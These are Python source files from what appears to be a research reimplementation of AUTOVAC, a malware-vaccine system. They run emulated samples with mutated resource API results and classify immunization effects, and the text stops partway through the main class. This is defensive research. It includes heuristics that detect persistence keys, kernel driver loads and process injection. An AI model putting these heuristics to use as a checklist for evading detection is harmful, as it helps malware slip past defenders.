        return ctx.pipeline.explore_paths and not ctx.done

    def run(self, ctx: AnalysisContext, span: "Span") -> None:
        from ..analysis.forced_execution import explore_resource_paths

        pipeline = ctx.pipeline
        exploration = explore_resource_paths(
            ctx.program,
            environment=pipeline.environment,
            max_steps=pipeline.profile_budget,
        )
        ctx.candidates.extend(exploration.discovered)
        span.set(discovered=len(exploration.discovered))


class ExclusivenessStage(Stage):
    """Phase II step I — drop candidates benign software also uses.

    ``enforce=False`` keeps the span (with its ``kept`` attribute) but lets
    every candidate through — the ablation shim for
    ``exclusiveness_enabled=False``."""

    name = "exclusiveness"

    def __init__(self, enforce: bool = True) -> None:
        self.enforce = enforce

    def run(self, ctx: AnalysisContext, span: "Span") -> None:
        if self.enforce:
            ctx.analysis.exclusiveness = ctx.pipeline.exclusiveness.filter(
                ctx.candidates
            )
            ctx.candidates = [
                d.candidate for d in ctx.analysis.exclusiveness if d.exclusive
            ]
        span.set(kept=len(ctx.candidates))


class ImpactStage(Stage):
    """Phase II step II — mutated runs + trace alignment per candidate."""

    name = "impact"

    def run(self, ctx: AnalysisContext, span: "Span") -> None:
        pipeline = ctx.pipeline
        phase1 = ctx.analysis.phase1
        ctx.analysis.impacts.extend(
            pipeline.impact.analyze_candidates(ctx.program, ctx.candidates, phase1.trace)
        )
        span.set(outcomes=len(ctx.analysis.impacts))


class DeterminismStage(Stage):
    """Phase II step III — backward slicing / identifier classification;
    builds the vaccine set from effective impact outcomes."""

    name = "determinism"

    def run(self, ctx: AnalysisContext, span: "Span") -> None:
        pipeline = ctx.pipeline
        analysis = ctx.analysis
        built: Dict[tuple, Vaccine] = {}
        ordered = sorted(
            (o for o in analysis.impacts if o.is_effective),
            key=lambda o: o.mechanism is not Mechanism.SIMULATE_PRESENCE,
        )
        for outcome in ordered:
            vaccine = pipeline._build_vaccine(
                ctx.program, analysis.phase1, outcome, analysis
            )
            if vaccine is None:
                continue
            # Both mutation directions of a create-checked resource deploy as
            # the same artifact (a locked marker); keep one per effect.
            key = (vaccine.resource_type, vaccine.identifier, vaccine.immunization)
            if key not in built:
                built[key] = vaccine
        analysis.vaccines = list(built.values())


class PolicyStage(Stage):
    """Temporal API-policy synthesis — the second deliverable.  Splits the
    Phase I log at the first-interception boundary, derives init vs
    steady-state allowlists, and distils benign-subtracted steady-state
    deny rules (see :mod:`repro.core.policy`).  Pure trace analysis: no
    extra executions, so it is cheap enough to always run."""

    name = "policy"

    def ready(self, ctx: AnalysisContext) -> bool:
        return not ctx.done and any(o.is_effective for o in ctx.analysis.impacts)

    def run(self, ctx: AnalysisContext, span: "Span") -> None:
        analysis = ctx.analysis
        policy = synthesize_policy(
            ctx.program.name,
            analysis.phase1.trace,
            analysis.impacts,
            exclusiveness=ctx.pipeline.exclusiveness,
        )
        analysis.policy = policy
        if policy is None:
            span.set(synthesized=False)
            return
        obs.metrics.counter("pipeline.policies").inc()
        span.set(
            boundary_seq=policy.boundary_seq,
            deny=len(policy.deny),
            subtracted=len(policy.subtracted),
        )


class ClinicStage(Stage):
    """Phase II step IV — benign-interference test; discards implicated
    vaccines and clinic-certifies the temporal policy.  Skipped unless
    ``run_clinic`` is on and there is something to test."""

    name = "clinic"

    def ready(self, ctx: AnalysisContext) -> bool:
        return (
            not ctx.done
            and ctx.pipeline.run_clinic
            and bool(ctx.analysis.vaccines or ctx.analysis.policy)
            and bool(ctx.pipeline.clinic_programs)
        )

    def run(self, ctx: AnalysisContext, span: "Span") -> None:
        pipeline = ctx.pipeline
        if ctx.analysis.vaccines:
            ctx.analysis.clinic = clinic_test(
                ctx.analysis.vaccines,
                pipeline.clinic_programs,
                environment=pipeline.environment,
            )
            ctx.analysis.vaccines = list(ctx.analysis.clinic.passed)
        if ctx.analysis.policy is not None:
            validation = validate_policy(
                ctx.analysis.policy,
                pipeline.clinic_programs,
                environment=pipeline.environment,
            )
            span.set(
                policy_certified=bool(ctx.analysis.policy.certified),
                policy_rules_removed=len(validation.removed),
            )


def default_stages(exclusiveness_enabled: bool = True) -> Tuple[Stage, ...]:
    """The paper's pipeline order (Figure 1), plus policy synthesis after
    determinism — both deliverables come out of one pass."""
    return (
        Phase1Stage(),
        ExplorationStage(),
        ExclusivenessStage(enforce=exclusiveness_enabled),
        ImpactStage(),
        DeterminismStage(),
        PolicyStage(),
        ClinicStage(),
    )


def run_stages(stages: Sequence[Stage], ctx: AnalysisContext) -> None:
    """Execute a stage sequence: one span per active stage, ``skipped=True``
    on stages that declined to run.  When a run-telemetry emitter is
    installed (``survey --run-dir``), each executed stage also spools a
    ``sample.phase`` transition event — the ``stream.enabled()`` guard
    keeps the telemetry-off path within the cheap-hook budget."""
    for stage in stages:
        if not stage.active(ctx):
            continue
        ran = False
        with obs.trace.span(stage.name) as span:
            if stage.ready(ctx):
                stage.run(ctx, span)
                ran = True
            else:
                span.set(skipped=True)
        if ran and obs.stream.enabled():
            obs.stream.emit(
                "sample.phase",
                sample=ctx.program.name,
                phase=stage.name,
                seconds=span.total_seconds(),
            )


__all__ = [
    "AnalysisContext",
    "Stage",
    "Phase1Stage",
    "ExplorationStage",
    "ExclusivenessStage",
    "ImpactStage",
    "DeterminismStage",
    "PolicyStage",
    "ClinicStage",
    "default_stages",
    "run_stages",
]
