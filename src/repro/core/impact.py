"""Phase II, step II — impact analysis (paper §IV-B).

For each candidate resource, re-run the malware with that resource's API
results mutated (one resource at a time, both directions: simulate presence /
enforce failure), align the mutated trace against the natural trace
(Algorithm 1 / LCS), and classify the immunization effect of the difference
set: full immunization, partial Types I–IV, or none.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, List, Optional, Sequence, Set, Tuple

from .. import obs
from ..analysis.alignment import Aligner, AlignmentResult, align_myers
from ..tracing.events import ApiCallEvent
from ..tracing.trace import Trace
from ..vm.program import Program
from ..winapi import INJECTION_APIS, NETWORK_APIS, TERMINATION_APIS
from ..winapi.dispatcher import Interception
from ..winapi.labels import ApiDef
from ..winenv.environment import SystemEnvironment
from ..winenv.filesystem import STARTUP_FOLDER, SYSTEM_INI
from ..winenv.objects import Operation, ResourceType
from ..winenv.processes import STANDARD_PROCESSES
from ..winenv.registry import is_persistence_key
from .candidate import CandidateResource
from .runner import DEFAULT_BUDGET, RunResult, resume_sample, run_sample
from .snapshot import SnapshotRecorder, mutation_matches
from .vaccine import Immunization, Mechanism, normalize_identifier

_log = obs.get_logger("impact")


class ResourceMutation:
    """Interceptor mutating every API access to one candidate resource.

    ``SIMULATE_PRESENCE`` makes existence checks succeed and create
    operations report "already exists"; ``ENFORCE_FAILURE`` makes every
    access fail with the API's labelled failure encoding.
    """

    def __init__(self, candidate: CandidateResource, mechanism: Mechanism) -> None:
        self.candidate = candidate
        self.mechanism = mechanism
        self.hits = 0
        #: Flight-recorder id of this mutation's "mutation" event; the
        #: dispatcher cites it as the cause of each "api.intercept" event.
        self.flight_id: Optional[int] = None

    def matches(self, event: ApiCallEvent) -> bool:
        # Shared with SnapshotRecorder: the snapshot is captured at the
        # first event this predicate accepts, so a resumed run's first
        # interception is the same event a full rerun's would be.
        return mutation_matches(self.candidate, event)

    def intercept(self, apidef: ApiDef, event: ApiCallEvent) -> Interception:
        if not self.matches(event):
            return Interception.PASS
        self.hits += 1
        if self.mechanism is Mechanism.ENFORCE_FAILURE:
            return Interception.FORCE_FAIL
        if event.operation is Operation.CREATE:
            return Interception.FORCE_FAIL_EXISTS
        return Interception.FORCE_SUCCESS


@dataclass
class ImpactOutcome:
    """Result of mutating one resource with one mechanism."""

    candidate: CandidateResource
    mechanism: Mechanism
    immunization: Immunization
    effects: Set[Immunization] = field(default_factory=set)
    alignment: Optional[AlignmentResult] = None
    mutated_run: Optional[RunResult] = None
    mutation_hits: int = 0
    #: Flight-recorder id of the "verdict.impact" event (process-local,
    #: not serialized — provenance ships via the journal itself).
    flight_id: Optional[int] = None

    @property
    def is_effective(self) -> bool:
        return self.immunization is not Immunization.NONE


#: analyze_candidates sentinel: the candidate's resource never matched an
#: API call at intercept time, so a mutated run would be the natural run.
_UNMATCHED = object()


def _candidate_flight_id(candidate: CandidateResource) -> Optional[int]:
    return obs.flight.recall(
        ("candidate", candidate.resource_type.value, candidate.identifier)
    )


class ImpactAnalyzer:
    """Runs mutated executions and classifies the behavioural difference.

    ``snapshot_resume`` (default on) runs the natural trace once more with a
    :class:`~repro.core.snapshot.SnapshotRecorder` attached, checkpoints the
    guest at each candidate's first interception site, and resumes every
    mutated run from its checkpoint — identical outcomes, a fraction of the
    re-executed instructions.  ``snapshot_resume=False`` keeps the legacy
    full-rerun path (the equivalence bench and tests pin both to the same
    results).
    """

    def __init__(
        self,
        environment: Optional[SystemEnvironment] = None,
        aligner: Aligner = align_myers,
        max_steps: int = DEFAULT_BUDGET,
        snapshot_resume: bool = True,
    ) -> None:
        self.environment = environment
        self.aligner = aligner
        self.max_steps = max_steps
        self.snapshot_resume = snapshot_resume

    def analyze(
        self,
        program: Program,
        candidate: CandidateResource,
        natural: Trace,
        mechanisms: Iterable[Mechanism] = (Mechanism.SIMULATE_PRESENCE, Mechanism.ENFORCE_FAILURE),
    ) -> List[ImpactOutcome]:
        outcomes = []
        for mechanism in mechanisms:
            outcomes.append(self.analyze_mechanism(program, candidate, natural, mechanism))
        return outcomes

    def analyze_mechanism(
        self,
        program: Program,
        candidate: CandidateResource,
        natural: Trace,
        mechanism: Mechanism,
    ) -> ImpactOutcome:
        """Legacy path: one full re-execution per candidate x mechanism."""
        mutation = ResourceMutation(candidate, mechanism)
        flight = obs.flight
        if flight.enabled:
            mutation.flight_id = flight.record(
                "mutation",
                causes=(_candidate_flight_id(candidate),),
                resource=candidate.resource_type.value,
                identifier=candidate.identifier,
                mechanism=mechanism.value,
                resumed=False,
            )
        mutated_run = run_sample(
            program,
            environment=self.environment,
            interceptors=[mutation],
            max_steps=self.max_steps,
            record_instructions=False,
        )
        return self._classify(
            candidate,
            mechanism,
            mutated_run,
            natural,
            mutation.hits,
            flight_causes=(mutation.flight_id,),
        )

    def analyze_candidates(
        self,
        program: Program,
        candidates: Sequence[CandidateResource],
        natural: Trace,
        mechanisms: Iterable[Mechanism] = (Mechanism.SIMULATE_PRESENCE, Mechanism.ENFORCE_FAILURE),
    ) -> List[ImpactOutcome]:
        """Analyze every candidate, sharing prefix execution when possible.

        Outcome order matches the legacy loop exactly: candidate-major,
        mechanism-minor.
        """
        candidates = list(candidates)
        mechanisms = tuple(mechanisms)
        if not candidates:
            return []
        if not self.snapshot_resume:
            outcomes: List[ImpactOutcome] = []
            for candidate in candidates:
                outcomes.extend(self.analyze(program, candidate, natural, mechanisms))
            return outcomes

        recorder = SnapshotRecorder(candidates)
        capture_run = run_sample(
            program,
            environment=self.environment,
            interceptors=[recorder],
            max_steps=self.max_steps,
            record_instructions=False,
            on_cpu=recorder.bind,
        )

        outcomes = []
        for candidate in candidates:
            snapshot = recorder.snapshots.get(candidate.key, _UNMATCHED)
            for mechanism in mechanisms:
                if snapshot is None:
                    # Capture failed (unpicklable state): full rerun.
                    outcomes.append(
                        self.analyze_mechanism(program, candidate, natural, mechanism)
                    )
                    continue
                if snapshot is _UNMATCHED:
                    # No API call ever matched at intercept time, so the
                    # mutation can never fire: the mutated run *is* the
                    # natural run (the capture run, which saw only PASSes).
                    outcomes.append(
                        self._classify(
                            candidate,
                            mechanism,
                            capture_run,
                            natural,
                            0,
                            flight_causes=(_candidate_flight_id(candidate),),
                        )
                    )
                    continue
                mutation = ResourceMutation(candidate, mechanism)
                flight = obs.flight
                resume_id = None
                if flight.enabled:
                    snap_id = flight.recall(("snapshot",) + candidate.key)
                    mutation.flight_id = flight.record(
                        "mutation",
                        causes=(_candidate_flight_id(candidate), snap_id),
                        resource=candidate.resource_type.value,
                        identifier=candidate.identifier,
                        mechanism=mechanism.value,
                        resumed=True,
                    )
                    resume_id = flight.record(
                        "snapshot.resume",
                        causes=(snap_id, mutation.flight_id),
                        identifier=candidate.identifier,
                        mechanism=mechanism.value,
                    )
                try:
                    mutated_run = resume_sample(
                        program,
                        snapshot,
                        interceptors=[mutation],
                        max_steps=self.max_steps,
                    )
                except Exception as exc:
                    # A failing restore degrades this one candidate-mechanism
                    # to the legacy full rerun — the survey never aborts.
                    _log.warning(
                        "snapshot resume failed; falling back to full rerun",
                        identifier=candidate.identifier,
                        mechanism=mechanism.value,
                        error=str(exc),
                    )
                    obs.metrics.counter("snapshot.resume_failures").inc()
                    outcomes.append(
                        self.analyze_mechanism(program, candidate, natural, mechanism)
                    )
                    continue
                outcomes.append(
                    self._classify(
                        candidate,
                        mechanism,
                        mutated_run,
                        natural,
                        mutation.hits,
                        flight_causes=(mutation.flight_id, resume_id),
                    )
                )
        return outcomes

    def _classify(
        self,
        candidate: CandidateResource,
        mechanism: Mechanism,
        mutated_run: RunResult,
        natural: Trace,
        mutation_hits: int,
        flight_causes: Tuple[Optional[int], ...] = (),
    ) -> ImpactOutcome:
        mutated = mutated_run.trace
        alignment = self.aligner(mutated.api_calls, natural.api_calls)
        effects = classify_deltas(natural, mutated, alignment)
        outcome = ImpactOutcome(
            candidate=candidate,
            mechanism=mechanism,
            immunization=primary_immunization(effects),
            effects=effects,
            alignment=alignment,
            mutated_run=mutated_run,
            mutation_hits=mutation_hits,
        )
        flight = obs.flight
        if flight.enabled:
            divergence_id = None
            if not alignment.is_identical:
                divergence_id = flight.record(
                    "align.divergence",
                    causes=flight_causes,
                    lost=len(alignment.delta_natural),
                    gained=len(alignment.delta_mutated),
                    first_lost=(
                        alignment.delta_natural[0].api if alignment.delta_natural else None
                    ),
                    first_gained=(
                        alignment.delta_mutated[0].api if alignment.delta_mutated else None
                    ),
                )
            outcome.flight_id = flight.record(
                "verdict.impact",
                causes=tuple(flight_causes) + (divergence_id,),
                resource=candidate.resource_type.value,
                identifier=candidate.identifier,
                mechanism=mechanism.value,
                immunization=outcome.immunization.value,
                effects=sorted(e.value for e in effects),
                hits=mutation_hits,
            )
        return outcome


# ---------------------------------------------------------------------------
# delta classification
# ---------------------------------------------------------------------------

#: Priority order for picking the headline immunization class.
_PRIORITY = (
    Immunization.FULL,
    Immunization.TYPE_I_KERNEL,
    Immunization.TYPE_II_NETWORK,
    Immunization.TYPE_III_PERSISTENCE,
    Immunization.TYPE_IV_INJECTION,
)


def primary_immunization(effects: Set[Immunization]) -> Immunization:
    for effect in _PRIORITY:
        if effect in effects:
            return effect
    return Immunization.NONE


def classify_deltas(
    natural: Trace, mutated: Trace, alignment: AlignmentResult
) -> Set[Immunization]:
    """Classify what the mutation disabled (paper §IV-B definitions)."""
    effects: Set[Immunization] = set()
    delta_n = alignment.delta_natural  # behaviour lost under mutation
    delta_m = alignment.delta_mutated  # behaviour gained under mutation

    if _terminated_early(natural, mutated, delta_m):
        effects.add(Immunization.FULL)

    if _has_kernel_injection(delta_n):
        effects.add(Immunization.TYPE_I_KERNEL)

    natural_net = _network_count(natural.api_calls)
    mutated_net = _network_count(mutated.api_calls)
    if natural_net >= 3 and mutated_net <= natural_net // 3:
        effects.add(Immunization.TYPE_II_NETWORK)

    if _has_persistence(delta_n):
        effects.add(Immunization.TYPE_III_PERSISTENCE)

    if _has_process_injection(delta_n):
        effects.add(Immunization.TYPE_IV_INJECTION)

    return effects


def _terminated_early(natural: Trace, mutated: Trace, delta_m: Sequence[ApiCallEvent]) -> bool:
    """Full immunization: the malware killed itself under mutation."""
    if any(e.api in TERMINATION_APIS for e in delta_m):
        return True
    # Termination that the naive delta misses (same Caller-PC exit stub):
    # the mutated run terminated while losing most of its behaviour.
    if mutated.terminated and not natural.terminated:
        return len(mutated.api_calls) < max(2, len(natural.api_calls) // 2)
    return False


def _has_kernel_injection(events: Sequence[ApiCallEvent]) -> bool:
    for event in events:
        if event.api == "NtLoadDriver":
            return True
        if event.extra.get("kernel_driver"):
            return True
        if (
            event.resource_type is ResourceType.FILE
            and event.operation in (Operation.CREATE, Operation.WRITE)
            and (event.identifier or "").lower().endswith(".sys")
        ):
            return True
    return False


def _network_count(events: Sequence[ApiCallEvent]) -> int:
    return sum(1 for e in events if e.api in NETWORK_APIS)


def _has_persistence(events: Sequence[ApiCallEvent]) -> bool:
    for event in events:
        identifier = (event.identifier or "").lower()
        if event.resource_type is ResourceType.REGISTRY and is_persistence_key(identifier):
            if event.operation in (Operation.WRITE, Operation.CREATE, Operation.DELETE):
                return True
        if event.resource_type is ResourceType.FILE and event.operation in (
            Operation.CREATE,
            Operation.WRITE,
        ):
            if identifier.startswith(STARTUP_FOLDER) or identifier == SYSTEM_INI:
                return True
        if event.api == "CreateServiceA" and not event.extra.get("kernel_driver"):
            return True
        if event.resource_type is ResourceType.REGISTRY and "winlogon" in identifier:
            return True
    return False


def _has_process_injection(events: Sequence[ApiCallEvent]) -> bool:
    standard = set(STANDARD_PROCESSES)
    for event in events:
        if event.api not in INJECTION_APIS:
            continue
        target = str(event.extra.get("target_process") or event.identifier or "").lower()
        if target in standard:
            return True
    return False
