"""Deterministic fault injection for the population executor.

Evasive samples stall or crash dynamic-analysis sandboxes on purpose, and
at the paper's population scale (1,716 samples) worker failure is a
certainty, not an edge case.  The executor's retry/timeout/quarantine
machinery therefore needs to be testable in CI *without* real flaky
workers — this module provides the harness.

A :class:`FaultPlan` is a small, picklable script of injected failures,
parsed from the ``REPRO_FAULT_PLAN`` environment variable (or built
directly in tests)::

    REPRO_FAULT_PLAN="crash:3@1,hang:7"

Grammar — comma/semicolon-separated directives, each::

    <action>:<target>[@<attempt>]

* ``action`` — ``crash`` (worker raises an exception), ``hang`` (worker
  sleeps past any configured timeout, then raises), or ``abort`` (worker
  hard-exits, breaking the process pool — the OOM-kill analogue);
* ``target`` — a population index (``3``) or a program name (``zeus-12``);
* ``@attempt`` — restrict the fault to one attempt number (1-based).
  ``crash:3@1`` crashes sample 3 only on its first attempt, so the retry
  succeeds; ``crash:3`` crashes every attempt, so the sample quarantines.

The same plan drives both execution modes: worker processes *enact* the
fault (sleep, raise, ``os._exit``) while the in-process ``jobs=1`` path
raises the marker exceptions immediately — so a fault-injected survey
produces identical :class:`~repro.core.pipeline.PopulationResult` tables
and failure records at any jobs level.
"""

from __future__ import annotations

import os
import time
from dataclasses import dataclass
from typing import Optional, Tuple

#: Environment variable holding the plan (see module docstring).
FAULT_PLAN_ENV = "REPRO_FAULT_PLAN"

#: How long an injected hang sleeps in a worker before giving up and
#: raising :class:`InjectedHang` — finite so a plan without a configured
#: timeout degrades to a slow failure instead of deadlocking CI.
DEFAULT_HANG_SECONDS = 30.0


class FaultPlanError(ValueError):
    """The ``REPRO_FAULT_PLAN`` text does not parse."""


class FaultInjected(RuntimeError):
    """Base class for failures raised by the harness."""


class InjectedCrash(FaultInjected):
    """The planned 'worker raised an exception' failure."""


class InjectedHang(FaultInjected):
    """The planned 'worker wedged' failure (classified as a timeout)."""


@dataclass(frozen=True)
class FaultSpec:
    """One planned failure."""

    action: str  # "crash" | "hang" | "abort"
    target: str  # population index (digits) or program name
    attempt: Optional[int] = None  # None = every attempt

    _ACTIONS = ("crash", "hang", "abort")

    def applies(self, index: int, name: str, attempt: int) -> bool:
        if self.attempt is not None and attempt != self.attempt:
            return False
        if self.target.isdigit():
            return index == int(self.target)
        return name == self.target

    @classmethod
    def parse(cls, text: str) -> "FaultSpec":
        action, sep, rest = text.partition(":")
        action = action.strip().lower()
        if not sep or action not in cls._ACTIONS:
            raise FaultPlanError(
                f"bad fault directive {text!r} (want <action>:<target>[@attempt] "
                f"with action in {cls._ACTIONS})"
            )
        target, sep, attempt_text = rest.partition("@")
        target = target.strip()
        if not target:
            raise FaultPlanError(f"bad fault directive {text!r}: empty target")
        attempt: Optional[int] = None
        if sep:
            try:
                attempt = int(attempt_text)
            except ValueError:
                raise FaultPlanError(
                    f"bad fault directive {text!r}: attempt must be an integer"
                ) from None
            if attempt < 1:
                raise FaultPlanError(
                    f"bad fault directive {text!r}: attempts are 1-based"
                )
        return cls(action=action, target=target, attempt=attempt)


@dataclass(frozen=True)
class FaultPlan:
    """An ordered set of :class:`FaultSpec` directives (picklable — the
    parent ships the plan to workers explicitly, so behaviour does not
    depend on environment inheritance or the pool start method)."""

    specs: Tuple[FaultSpec, ...] = ()
    hang_seconds: float = DEFAULT_HANG_SECONDS

    def __bool__(self) -> bool:
        return bool(self.specs)

    @classmethod
    def parse(cls, text: str, hang_seconds: float = DEFAULT_HANG_SECONDS) -> "FaultPlan":
        specs = []
        for chunk in text.replace(";", ",").split(","):
            chunk = chunk.strip()
            if chunk:
                specs.append(FaultSpec.parse(chunk))
        return cls(specs=tuple(specs), hang_seconds=hang_seconds)

    @classmethod
    def from_env(cls, environ=None) -> "FaultPlan":
        """Plan from ``REPRO_FAULT_PLAN`` (empty plan when unset)."""
        environ = os.environ if environ is None else environ
        text = environ.get(FAULT_PLAN_ENV, "")
        if not text.strip():
            return cls()
        plan = cls.parse(text)
        hang = environ.get("REPRO_FAULT_HANG_SECONDS")
        if hang:
            plan = cls(specs=plan.specs, hang_seconds=float(hang))
        return plan

    def lookup(self, index: int, name: str, attempt: int) -> Optional[FaultSpec]:
        for spec in self.specs:
            if spec.applies(index, name, attempt):
                return spec
        return None

    # -- application -------------------------------------------------------

    def raise_inline(self, index: int, name: str, attempt: int) -> None:
        """In-process (``jobs=1``) injection: raise the marker exception
        immediately — a hang cannot be preempted inline, so it shows up as
        the same timeout-kind failure the parallel path records."""
        spec = self.lookup(index, name, attempt)
        if spec is None:
            return
        if spec.action == "hang":
            raise InjectedHang(f"injected hang: sample {index} ({name}) attempt {attempt}")
        raise InjectedCrash(
            f"injected {spec.action}: sample {index} ({name}) attempt {attempt}"
        )

    def enact_in_worker(self, index: int, name: str, attempt: int) -> None:
        """Worker-process injection: actually misbehave, so the parent's
        timeout / broken-pool machinery is exercised end to end."""
        spec = self.lookup(index, name, attempt)
        if spec is None:
            return
        if spec.action == "abort":
            os._exit(1)  # hard death: parent sees BrokenProcessPool
        if spec.action == "hang":
            time.sleep(self.hang_seconds)
            raise InjectedHang(
                f"injected hang: sample {index} ({name}) attempt {attempt} "
                f"(outlived its {self.hang_seconds:.0f}s nap)"
            )
        raise InjectedCrash(
            f"injected crash: sample {index} ({name}) attempt {attempt}"
        )


__all__ = [
    "DEFAULT_HANG_SECONDS",
    "FAULT_PLAN_ENV",
    "FaultInjected",
    "FaultPlan",
    "FaultPlanError",
    "FaultSpec",
    "InjectedCrash",
    "InjectedHang",
]
