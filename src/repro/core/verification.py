"""Post-generation vaccine verification.

Impact analysis predicts a vaccine's effect by *mutating API results*;
deployment changes the *environment*.  The two mechanisms should agree, but
over-tainting, shared call sites or partial interception can break the
correspondence — the paper verifies effects by (manually) comparing
vaccinated executions.  This module automates that closure: deploy the
vaccine for real, re-run the sample, classify the behavioural delta with the
same classifier, and check the claimed immunization actually materializes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Sequence

from ..analysis.alignment import Aligner, align_lcs
from ..delivery.package import VaccinePackage, deploy
from ..vm.program import Program
from ..winenv.environment import SystemEnvironment
from .impact import classify_deltas, primary_immunization
from .runner import DEFAULT_BUDGET, run_sample
from .vaccine import Immunization, Vaccine


@dataclass
class VerificationResult:
    """Outcome of verifying one vaccine against one sample."""

    vaccine: Vaccine
    claimed: Immunization
    observed: Immunization
    observed_effects: frozenset = frozenset()
    bdr: float = 0.0

    @property
    def verified(self) -> bool:
        """The deployed vaccine achieves at least its claimed effect.

        A stronger observed effect (e.g. FULL where TYPE_III was claimed)
        also verifies: the prediction was conservative, not wrong.
        """
        if self.claimed is self.observed:
            return True
        if self.observed is Immunization.FULL:
            return True
        return self.claimed in self.observed_effects


@dataclass
class VerificationReport:
    results: List[VerificationResult] = field(default_factory=list)

    @property
    def all_verified(self) -> bool:
        return all(r.verified for r in self.results)

    @property
    def verified_count(self) -> int:
        return sum(1 for r in self.results if r.verified)

    def failures(self) -> List[VerificationResult]:
        return [r for r in self.results if not r.verified]


def verify_vaccine(
    program: Program,
    vaccine: Vaccine,
    environment: Optional[SystemEnvironment] = None,
    aligner: Aligner = align_lcs,
    max_steps: int = DEFAULT_BUDGET,
) -> VerificationResult:
    """Deploy ``vaccine`` alone and measure what it actually disables."""
    base = environment if environment is not None else SystemEnvironment()

    natural = run_sample(
        program, environment=base, max_steps=max_steps, record_instructions=False
    )

    vaccinated_env = base.clone()
    deploy(VaccinePackage(vaccines=[vaccine]), vaccinated_env)
    vaccinated = run_sample(
        program,
        environment=vaccinated_env,
        max_steps=max_steps,
        record_instructions=False,
        clone_environment=False,
    )

    alignment = aligner(vaccinated.trace.api_calls, natural.trace.api_calls)
    effects = classify_deltas(natural.trace, vaccinated.trace, alignment)
    calls_n = len(natural.trace.api_calls)
    calls_v = len(vaccinated.trace.api_calls)
    bdr = (calls_n - calls_v) / calls_n if calls_n else 0.0
    return VerificationResult(
        vaccine=vaccine,
        claimed=vaccine.immunization,
        observed=primary_immunization(effects),
        observed_effects=frozenset(effects),
        bdr=bdr,
    )


def verify_all(
    program: Program,
    vaccines: Sequence[Vaccine],
    environment: Optional[SystemEnvironment] = None,
    max_steps: int = DEFAULT_BUDGET,
) -> VerificationReport:
    report = VerificationReport()
    for vaccine in vaccines:
        report.results.append(
            verify_vaccine(program, vaccine, environment=environment, max_steps=max_steps)
        )
    return report
