"""The end-to-end AUTOVAC pipeline (paper Figure 1).

``AutoVac.analyze(program)`` runs:

1. **Phase I** candidate selection (profiling + taint),
2. **Phase II** exclusiveness → impact (both mutation mechanisms) →
   determinism (backward slicing) → optional clinic test,
3. emits :class:`~repro.core.vaccine.Vaccine` objects ready for Phase III
   delivery.

``AutoVac.analyze_population`` maps the pipeline over a corpus and aggregates
the statistics the paper reports (Tables IV/V, Figure 3).
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence

from ..analysis.alignment import Aligner, align_lcs
from ..search.engine import SearchEngine
from ..vm.program import Program
from ..winenv.environment import SystemEnvironment
from .candidate import CandidateReport, CandidateResource, select_candidates
from .clinic import ClinicReport, clinic_test
from .determinism import DeterminismResult, analyze_determinism
from .exclusiveness import ExclusivenessAnalyzer, ExclusivenessDecision
from .impact import ImpactAnalyzer, ImpactOutcome
from .runner import DEFAULT_BUDGET
from .vaccine import IdentifierKind, Immunization, Mechanism, Vaccine


@dataclass
class SampleAnalysis:
    """Everything the pipeline produced for one sample."""

    program: Program
    phase1: Optional[CandidateReport] = None
    exclusiveness: List[ExclusivenessDecision] = field(default_factory=list)
    impacts: List[ImpactOutcome] = field(default_factory=list)
    determinism: Dict[str, DeterminismResult] = field(default_factory=dict)
    vaccines: List[Vaccine] = field(default_factory=list)
    clinic: Optional[ClinicReport] = None
    filtered_reason: Optional[str] = None
    timings: Dict[str, float] = field(default_factory=dict)

    @property
    def has_vaccines(self) -> bool:
        return bool(self.vaccines)


@dataclass
class PopulationResult:
    """Aggregate over a corpus run."""

    analyses: List[SampleAnalysis] = field(default_factory=list)

    @property
    def vaccines(self) -> List[Vaccine]:
        return [v for a in self.analyses for v in a.vaccines]

    @property
    def samples_with_vaccines(self) -> int:
        return sum(1 for a in self.analyses if a.has_vaccines)

    def count_by_resource_and_immunization(self) -> Dict[str, Dict[str, int]]:
        """Paper Table IV: rows = resource type, columns = Full/Type I-IV."""
        table: Dict[str, Dict[str, int]] = {}
        for vaccine in self.vaccines:
            row = table.setdefault(vaccine.resource_type.value, {})
            col = vaccine.immunization.value
            row[col] = row.get(col, 0) + 1
        return table

    def count_by_identifier_kind(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for vaccine in self.vaccines:
            counts[vaccine.identifier_kind.value] = (
                counts.get(vaccine.identifier_kind.value, 0) + 1
            )
        return counts

    def count_by_delivery(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for vaccine in self.vaccines:
            counts[vaccine.delivery.value] = counts.get(vaccine.delivery.value, 0) + 1
        return counts

    def resource_operation_stats(self) -> Dict[str, Dict[str, int]]:
        """Figure 3: resource-type x operation access counts over the
        whole population's profiling runs."""
        stats: Dict[str, Dict[str, int]] = {}
        for analysis in self.analyses:
            if analysis.phase1 is None:
                continue
            for rtype, per_op in analysis.phase1.trace.count_by_resource_operation().items():
                row = stats.setdefault(rtype.value, {})
                for op, count in per_op.items():
                    row[op.value] = row.get(op.value, 0) + count
        return stats

    def occurrence_stats(self) -> Dict[str, int]:
        """Phase-I §VI-B numbers: total resource-API occurrences and how
        many influenced control flow (paper: 460,323 / 80.3%)."""
        total = sum(a.phase1.total_occurrences for a in self.analyses if a.phase1)
        influential = sum(
            a.phase1.influential_occurrences for a in self.analyses if a.phase1
        )
        return {"total": total, "influential": influential}

    def count_by_category_and_resource(self) -> Dict[str, Dict[str, int]]:
        """Table V upper half: vaccine resource mix per malware category."""
        table: Dict[str, Dict[str, int]] = {}
        for analysis in self.analyses:
            category = str(analysis.program.metadata.get("category", "unknown"))
            for vaccine in analysis.vaccines:
                row = table.setdefault(category, {})
                key = vaccine.resource_type.value
                row[key] = row.get(key, 0) + 1
        return table

    def count_by_category_and_delivery(self) -> Dict[str, Dict[str, int]]:
        """Table V lower half: delivery mix per malware category."""
        table: Dict[str, Dict[str, int]] = {}
        for analysis in self.analyses:
            category = str(analysis.program.metadata.get("category", "unknown"))
            for vaccine in analysis.vaccines:
                row = table.setdefault(category, {})
                key = vaccine.delivery.value
                row[key] = row.get(key, 0) + 1
        return table


class AutoVac:
    """The AUTOVAC analysis system.

    Parameters mirror the paper's setup: a pristine analysis machine, the
    search engine for exclusiveness, the trace aligner, and the profiling
    budget (1-minute analogue).  ``exclusiveness_enabled`` and
    ``run_clinic`` exist for the ablation benches.
    """

    def __init__(
        self,
        environment: Optional[SystemEnvironment] = None,
